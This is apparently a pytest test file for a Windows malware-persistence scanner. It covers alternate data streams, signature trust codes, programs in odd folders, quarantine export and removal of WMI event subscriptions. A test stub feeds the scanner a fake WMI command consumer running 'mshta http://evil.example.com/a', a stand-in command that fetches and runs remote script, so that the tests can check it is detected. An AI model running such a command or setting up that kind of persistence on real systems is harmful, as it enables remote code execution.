"""Parts of the Windows code that need no Windows.

Parsing, decisions, and answers of the system's programs.
"""

from __future__ import annotations

import base64
import struct
from pathlib import Path
from typing import Any

import pytest

from lamsach.errors import InputError, OutputError
from lamsach.scanner import subscriptions, trust
from lamsach.scanner.actions import restart
from lamsach.scanner.actions.recover import recover
from lamsach.scanner.actions.streams import parsed
from lamsach.scanner.actions.subscriptions import disable_subscription, restore_subscription
from lamsach.scanner.actions.undo import export
from lamsach.scanner.actions.vault import Vault
from lamsach.scanner.checks.context import Context
from lamsach.scanner.checks.signatures import check_signatures, odd_place
from lamsach.scanner.checks.start_windows import start_windows
from lamsach.scanner.control import Control
from lamsach.scanner.findings import Target, TargetKind
from lamsach.scanner.index import Index, build_index
from lamsach.scanner.options import Options
from lamsach.scanner.safe_open import Skipped

BINDING = (
    '__FilterToConsumerBinding.Consumer="CommandLineEventConsumer.Name=\\"o\'k\\"",'
    'Filter="__EventFilter.Name=\\"f\\""'
)


def stream_list(*names: str) -> bytes:
    data = b""
    for number, name in enumerate(names):
        text = name.encode("utf-16-le")
        entry = struct.pack("<IIqq", 0, len(text), 10 + number, 512) + text
        entry += b"\0" * (-len(entry) % 8)
        if number < len(names) - 1:
            entry = struct.pack("<I", len(entry)) + entry[4:]
        data += entry
    return data


def test_named_streams_are_listed_with_their_sizes() -> None:
    found = list(parsed(stream_list("::$DATA", ":Zone.Identifier:$DATA", ":tên:$DATA", ":x:$OTHER")))
    assert [(stream.name, stream.size) for stream in found] == [("Zone.Identifier", 11), ("tên", 12)]


@pytest.mark.parametrize("data", [b"", b"\0" * 10, struct.pack("<IIqq", 24, 0, 0, 0) * 2000])
def test_a_broken_list_of_streams(data: bytes) -> None:
    with pytest.raises(Skipped):
        list(parsed(data))


def test_streams_are_stored_and_exported(vault: Vault, tmp_path: Path) -> None:
    import pyzipper

    item = vault.store({"kind": "file"}, "20260101", [b"content"], [("a", [b"one", b"two"]), ("b", [])])
    assert [(stream["name"], stream["size"]) for stream in item.meta["streams"]] == [("a", 6), ("b", 0)]
    again = vault.item(item.id)
    assert b"".join(vault.stream(again, 0)) == b"onetwo"
    export(vault, [again], tmp_path / "out.zip")
    with pyzipper.AESZipFile(tmp_path / "out.zip") as archive:
        archive.setpassword(b"infected")
        assert archive.read(f"{item.id}/stream-0") == b"onetwo"


def test_only_one_pending_operation_is_removed() -> None:
    listed = ["\\??\\C:\\a", "", "\\??\\C:\\B", "!\\??\\C:\\c", "\\??\\C:\\bb", ""]
    assert restart.without(listed, "c:\\b") == ["\\??\\C:\\a", "", "\\??\\C:\\bb", ""]


@pytest.mark.parametrize(
    ("code", "state"),
    [
        (0, "trusted"),
        (0x800B0100, "unsigned"),
        (0x800B0003, "unsigned"),
        (0x80092009, "unsigned"),
        (0x80096010, "distrusted"),
        (0x800B0109, "distrusted"),
        (0x800B0101, "distrusted"),
        (0x20, "unknown"),
        (0x80070002, "unknown"),
        (0x80092003, "unknown"),
    ],
)
def test_answers_about_signatures(code: int, state: str) -> None:
    assert trust.judged(code) == state


@pytest.mark.parametrize(
    ("state", "signer", "of_windows"),
    [
        ("trusted", "Microsoft Windows", True),
        ("distrusted", "Microsoft Windows", False),
        ("trusted", "Example Software", False),
        ("trusted", "Not Microsoft Windows", False),
    ],
)
def test_signers_of_the_system(
    monkeypatch: pytest.MonkeyPatch, state: str, signer: str, of_windows: bool
) -> None:
    monkeypatch.setattr(trust, "signature", lambda _: (state, signer))
    assert trust.of_windows("x") is of_windows


@pytest.mark.parametrize(
    ("path", "odd"),
    [
        (r"C:\Users\nam\AppData\Local\Temp\7z1\setup.exe", True),
        (r"C:\Users\nam\AppData\Roaming\svc.exe", True),
        (r"C:\Users\nam\AppData\Roaming\Zalo\Zalo.exe", False),
        (r"C:\Users\nam\AppData\Local\Programs\Editor\editor.exe", False),
        (r"C:\Users\Public\Music\a.scr", True),
        (r"C:\ProgramData\x.dll", True),
        (r"C:\ProgramData\Maker\x.dll", False),
        (r"C:\Program Files\Maker\x.exe", False),
        (r"C:\x.exe", True),
        (r"C:\Windows\Temp\x.exe", True),
        (r"C:\Users\nam\AppData\Local\Temp\list.txt", False),
    ],
)
def test_programs_in_odd_places_are_recognized(path: str, odd: bool) -> None:
    assert odd_place(path) is odd


@pytest.fixture
def context() -> Any:
    loaded = build_index([])
    yield Context(Options(), Index(loaded.path), Control())
    loaded.close()


@pytest.mark.parametrize(
    ("state", "reasons"), [("unsigned", 2), ("distrusted", 2), ("trusted", 0), ("unknown", 0)]
)
def test_unsigned_in_odd_places(context: Context, state: str, reasons: int) -> None:
    program = r"C:\Users\Public\x.exe"
    context.starting[program] = r"HKCU\...\Run\x"
    context.starting[r"C:\Program Files\a\a.exe"] = "service"
    context.running[program] = [("x.exe (pid 9)", Target(TargetKind.PROCESS, program, pid=9))]
    check_signatures(context, lambda _: (state, ""))
    assert [finding.reason for finding in context.findings] == ["unsigned_program"] * reasons


class System:
    """PowerShell and mofcomp of a Windows with some bindings."""

    def __init__(self, *bindings: str) -> None:
        self.bindings = set(bindings)
        self.stubborn = False
        self.silent = False

    def output_of(self, command: list[str]) -> str:
        if self.silent:
            raise Skipped("tool_empty")
        if command[0] == "mofcomp.exe":
            self.bindings.add(BINDING if b"in" in Path(command[-1]).read_bytes().replace(b"\0", b"") else "")
            return "Done!"
        script = base64.b64decode(command[-1]).decode("utf-16-le")
        wanted = script.split("$w='")[1].split("';")[0].replace("''", "'")
        output = ""
        if ".Delete()" in script and not self.stubborn:
            self.bindings.discard(wanted)
        elif "GetText" in script and wanted in self.bindings:
            output = "instance of __FilterToConsumerBinding { };"
        elif "ConvertTo-Json" in script:
            output = (
                '{"path":"p","name":"SCM Event Log Consumer"}\n'
                '{"path":"q","name":"bad","command":"mshta http://evil.example.com/a","program":"",'
                '"script":"","file":""}\n'
            )
        return f"\ufeff{output}lamsach-end\r\n"


@pytest.fixture
def system(monkeypatch: pytest.MonkeyPatch) -> System:
    system = System(BINDING)
    monkeypatch.setattr(subscriptions, "output_of", system.output_of)
    return system


TARGET = Target(TargetKind.SUBSCRIPTION, subscriptions.NAMESPACE, BINDING)


def test_subscriptions_are_read(context: Context, system: System) -> None:
    assert list(subscriptions.subscriptions()) == [
        subscriptions.Subscription("q", "bad", "mshta http://evil.example.com/a")
    ]
    from .test_checks_windows import FakeRegistry

    start_windows(context, FakeRegistry({}))
    (finding,) = [finding for finding in context.findings if finding.target is not None]
    assert finding.target == Target(TargetKind.SUBSCRIPTION, subscriptions.NAMESPACE, "q")
    assert not any("subscription" in skip.subject for skip in context.skips)


def test_a_subscription_removed_and_restored(vault: Vault, system: System) -> None:
    item = disable_subscription(vault, TARGET, {})
    assert item.done
    assert not system.bindings
    restore_subscription(vault, item)
    assert system.bindings == {BINDING}
    assert not list(vault.items())


def test_a_subscription_that_is_gone(vault: Vault, system: System) -> None:
    system.bindings.clear()
    with pytest.raises(InputError):
        disable_subscription(vault, TARGET, {})


@pytest.mark.parametrize("trouble", ["stubborn", "silent"])
def test_a_subscription_that_stays(vault: Vault, system: System, trouble: str) -> None:
    setattr(system, trouble, True)
    with pytest.raises(OutputError):
        disable_subscription(vault, TARGET, {})
    assert not list(vault.items())
    assert system.bindings == {BINDING}


@pytest.mark.parametrize("deleted", [True, False])
def test_a_power_cut_at_a_subscription(vault: Vault, system: System, deleted: bool) -> None:
    item = disable_subscription(vault, TARGET, {})
    item.unstamp("done")
    if not deleted:
        system.bindings.add(BINDING)
    assert recover(vault) == [item.id]
    assert [found.done for found in vault.items()] == ([True] if deleted else [])


def test_a_silent_system_is_not_clean(system: System) -> None:
    system.silent = True
    with pytest.raises(Skipped):
        list(subscriptions.subscriptions())
